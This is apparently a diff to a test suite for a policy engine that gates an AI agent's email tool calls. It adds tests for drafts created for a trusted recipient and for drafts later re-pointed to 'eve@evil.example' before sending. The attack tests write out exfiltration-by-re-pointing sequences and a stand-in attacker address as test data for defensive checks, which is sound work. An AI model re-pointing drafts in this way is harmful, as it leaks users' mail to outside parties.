@@ -15,6 +15,7 @@ user's prompt named, the echo of a send. Each benign case beside the attack it m
 
 from __future__ import annotations
 
+import json
 from typing import Any
 
 from hypothesis import given, settings
@@ -302,3 +303,79 @@ def test_free_text_of_a_named_directory_output_is_not_listed() -> None:
     assert (v.verdict, v.rule) == ("ask", "sink.tainted_named_source"), v.reason
     ok = _call(eng, "send_email", {"to": "ann@corp.example", "body": "minutes"})
     assert (ok.verdict, ok.rule) == ("allow", "sink.trusted"), ok.reason
+
+
+# ---- objects made for a trusted recipient --------------------------------------------------------
+
+DRAFTS = """
+tools:
+  create_draft:
+    exfiltrating: true
+    sink_params: [to]
+  send_draft:
+    exfiltrating: true
+    sink_params: [to]
+"""
+
+
+def _draft_engine(prompt: str) -> Engine:
+    eng = Engine(merge([load_policy(DRAFTS, "policy.yaml")]))
+    eng.tools_listed(
+        MAIL, [{"name": t} for t in ["create_draft", "send_draft", "update_draft", "get_draft"]], now=0.0
+    )
+    for ev in eng.vouch(S, prompt):
+        eng.apply(ev)
+    return eng
+
+
+def _make_draft(eng: Engine, to: str, reply: str) -> Verdict:
+    rid = next(_ids)
+    v = _call(eng, "create_draft", {"to": to, "body": "the template"}, rid)
+    payload = json.dumps({"jsonrpc": "2.0", "id": rid, "result": _text(reply)}).encode()
+    _output(eng, "create_draft", rid, _text(reply))
+    eng.read_made(S, "mail", rid, payload)
+    return v
+
+
+@settings(max_examples=30, deadline=None)
+@given(
+    draft_id=st.from_regex(r"r-[0-9]{1,9}", fullmatch=True),
+    reply=st.sampled_from(["Draft {i} created.", "id: {i}", '{{"draft_id": "{i}"}}']),
+)
+def test_a_draft_made_for_a_trusted_recipient_is_sent_by_id(draft_id: str, reply: str) -> None:
+    """Benign: "draft a reply to ann@corp.example and send it": the second step names only the draft."""
+    eng = _draft_engine("Draft the template for ann@corp.example, then send it")
+    made = _make_draft(eng, "ann@corp.example", reply.format(i=draft_id).replace("Draft ", "Draft id: "))
+    assert made.verdict == "allow", made.reason
+    v = _call(eng, "send_draft", {"draft_id": draft_id})
+    assert (v.verdict, v.rule) == ("allow", "sink.trusted"), v.reason
+    assert "ann@corp.example" in v.reason
+
+
+def test_a_draft_changed_after_it_was_made_is_asked_again() -> None:
+    """Attack: the draft made for Ann is re-pointed (an update names it) before it is sent."""
+    eng = _draft_engine("Draft the template for ann@corp.example, then send it")
+    _make_draft(eng, "ann@corp.example", '{"draft_id": "r-77"}')
+    _call(eng, "update_draft", {"draft_id": "r-77", "to": "eve@evil.example"})
+    v = _call(eng, "send_draft", {"draft_id": "r-77"})
+    assert (v.verdict, v.rule) == ("ask", "sink.no_destination"), v.reason
+
+
+def test_a_draft_made_for_an_unproven_recipient_vouches_for_nothing() -> None:
+    """Attack: a draft whose recipient nobody vouched for (asked at creation) does not make its send
+    trusted; nor does an id the server names that no trusted creating call made."""
+    eng = _draft_engine("Tidy up my drafts")
+    made = _make_draft(eng, "eve@evil.example", '{"draft_id": "r-9"}')
+    assert made.verdict == "ask"
+    v = _call(eng, "send_draft", {"draft_id": "r-9"})
+    assert (v.verdict, v.rule) == ("ask", "sink.no_destination"), v.reason
+
+
+def test_a_draft_re_pointed_by_a_tool_that_itself_sends_is_asked_again() -> None:
+    """Attack: the update that re-points the draft is itself a gated send (it names `to`): the draft
+    is unbound all the same."""
+    eng = _draft_engine("Draft the template for ann@corp.example, then send it")
+    _make_draft(eng, "ann@corp.example", '{"draft_id": "r-78"}')
+    _call(eng, "create_draft", {"draft_id": "r-78", "to": "eve@evil.example", "body": "x"})
+    v = _call(eng, "send_draft", {"draft_id": "r-78"})
+    assert (v.verdict, v.rule) == ("ask", "sink.no_destination"), v.reason
